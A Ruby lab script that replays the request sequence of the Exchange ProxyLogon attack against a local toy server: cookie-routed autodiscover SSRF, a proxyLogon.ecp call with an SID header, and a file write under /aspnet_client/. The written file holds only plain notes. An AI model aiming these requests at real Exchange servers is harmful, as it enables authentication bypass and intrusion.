# HTTParty port of the lab chain with every literal named once. Local toy server only.
require 'httparty'

BROWSER_MAJOR = 88
BROWSER_BUILD = 4324
BROWSER_PATCH = 190
WEBKIT = '537.36'
UA_STRING = format('Mozilla/5.0 (Windows NT 10.0; WOW64) AppleWebKit/%s (KHTML, like Gecko) Chrome/%d.0.%d.%d Safari/%s',
                   WEBKIT, BROWSER_MAJOR, BROWSER_BUILD, BROWSER_PATCH, WEBKIT)
FILLER = 'A'
FILLER_COUNT = 37
PROBE_ROUTE = '/autodiscover/autodiscover.json'
LOGON_ROUTE = '/ecp/proxyLogon.ecp'
NOTE_SERIAL = 91453
NOTE_ROUTE = '/aspnet_client/system_web/readme_%d.txt' % NOTE_SERIAL
RESOURCE_SEQ = 1843073522
TRACE_DATE = '20200302'
TRACE_SEQ = 7720
LAB = 'lab.invalid'
ADMIN = 'administrator@' + LAB
SID = 'S-1-5-20'

class ToyClient
  include HTTParty

  def initialize(port)
    @base = "http://127.0.0.1:#{port}"
  end

  def common
    {
      'User-Agent' => UA_STRING,
      'x-requested-with' => 'XMLHttpRequest',
      'Accept' => '*/*',
      'accept-language' => 'en-US,en;q=0.9',
      'connection' => 'close'
    }
  end

  def cookie_value
    backend = format('localhost@%s/ews/exchange.asmx?a%%3D~%d', LAB, RESOURCE_SEQ)
    "X-AnonResource=true; X-AnonResource-Backend=#{LAB}; X-BEResource=#{backend}"
  end

  def step_probe
    query = {
      'Pad' => FILLER * FILLER_COUNT,
      'Protocol' => 'Autodiscoverv1',
      'Email' => ADMIN + '/mapi/nspi',
      'RequestId' => "#{TRACE_DATE}-#{TRACE_SEQ}"
    }
    self.class.get(@base + PROBE_ROUTE, query: query, headers: common.merge('cookie' => cookie_value), timeout: 10)
  end

  def step_identity
    body = '{"mailbox": "%s", "requestKind": "identity", "seq": 1}' % [ADMIN]
    headers = {
      'user-agent' => UA_STRING,
      'msexchlogonmailbox' => SID,
      'content-type' => 'application/json',
      'X-BEResource' => "localhost@#{LAB}#{LOGON_ROUTE}"
    }
    self.class.post(@base + LOGON_ROUTE, headers: headers, body: body, timeout: 10)
  end

  def step_note(who)
    lines = []
    3.times { |i| lines << "note #{i + 1} of 3 for #{who}" }
    headers = { 'user-agent' => UA_STRING, 'X-Note-Path' => NOTE_ROUTE, 'Content-Type' => 'text/plain' }
    self.class.post(@base + NOTE_ROUTE, headers: headers, body: lines.join("\n"), timeout: 10)
  end

  def step_check
    self.class.get(@base + NOTE_ROUTE, headers: common, timeout: 10)
  end
end

client = ToyClient.new(ARGV.fetch(0, '8080'))
exit 1 if client.step_probe.code >= 500
answer = client.step_identity
who = answer.code == 200 ? answer.body.to_s.strip : ''
who = 'anonymous' if who.empty?
client.step_note(who)
puts client.step_check.body.to_s.length
